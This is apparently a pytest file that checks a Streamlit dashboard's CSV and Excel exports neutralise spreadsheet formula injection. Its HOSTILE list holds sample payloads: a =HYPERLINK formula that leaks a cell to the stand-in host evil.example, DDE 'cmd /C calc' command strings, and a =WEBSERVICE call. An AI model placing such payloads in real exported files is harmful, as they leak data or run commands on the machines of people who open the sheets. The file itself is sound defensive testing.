"""Safe spreadsheets (issue #12, item 3): downloads read back as data, never as formulas."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from dashboard.exports import table_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=WEBSERVICE("http://evil.example")',
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "sentence": HOSTILE + ["Iran backs Hezbollah.", "Turkey \x01 vetoed\x0b Israel."],
            "source": ["=Wire"] * len(HOSTILE) + ["Op-ed", "-Blog"],
            "score": [-0.25] * (len(HOSTILE) + 2),
            "n": list(range(len(HOSTILE) + 2)),
        }
    )


def test_excel_cells_are_never_formulas():
    """In the Excel file the cells were live formulas (=HYPERLINK(…))."""
    book = load_workbook(io.BytesIO(table_bytes(_frame(), "xlsx")))
    cells = [cell for row in book["data"].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["data"]
    assert sheet["A2"].value == HOSTILE[0] and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["C2"].value == -0.25 and sheet["C2"].data_type == "n"  # numbers stay numbers
    assert sheet["A11"].value == "Turkey  vetoed Israel."  # control characters an XLSX cannot hold are dropped


def test_csv_cells_cannot_start_a_formula():
    text = table_bytes(_frame(), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header == ["sentence", "source", "score", "n"]
    for row in body:
        for cell in row[:2]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert body[0][0] == "'" + HOSTILE[0] and body[0][1] == "'=Wire"
    assert body[0][2] == "-0.25"  # a negative number is a number, left alone
    assert body[8][0] == "Iran backs Hezbollah." and body[9][1] == "'-Blog"


def test_the_pages_offer_only_safe_downloads(tmp_path):
    """Every download button on the Overview carries the neutralised bytes (the documents table here)."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text('=HYPERLINK("http://evil.example","x")\n\nIran backs Hezbollah.\n')
    (corpus / "manifest.yaml").write_text('documents:\n  - doc_id: a\n    source: "=cmd|calc"\n    title: "@SUM(1)"\n')
    at = AppTest.from_file("../app.py", default_timeout=120)
    at.session_state["corpus_path"] = str(corpus)
    at.run()
    assert not at.exception
    docs = [df.value for df in at.dataframe if "title" in df.value.columns][0]
    for kind in ("csv", "xlsx"):
        data = table_bytes(docs.drop(columns=["reader"]), kind)
        if kind == "csv":
            assert "'=cmd|calc" in data.decode("utf-8-sig") and "'@SUM(1)" in data.decode("utf-8-sig")
        else:
            cells = [c for row in load_workbook(io.BytesIO(data))["data"].iter_rows() for c in row]
            assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("value", ["", "plain", "a=b", " =1"])
def test_ordinary_text_is_untouched(value):
    frame = pd.DataFrame({"text": [value]})
    assert list(csv.reader(io.StringIO(table_bytes(frame, "csv").decode("utf-8-sig"))))[1] == [value]


def test_streamlits_unsafe_table_export_is_off():
    """st.dataframe's own CSV export keeps formulas live; the app's buttons are the safe way out."""
    import tomllib

    from tests.conftest import ROOT

    assert tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())["client"]["disableDataExport"] is True
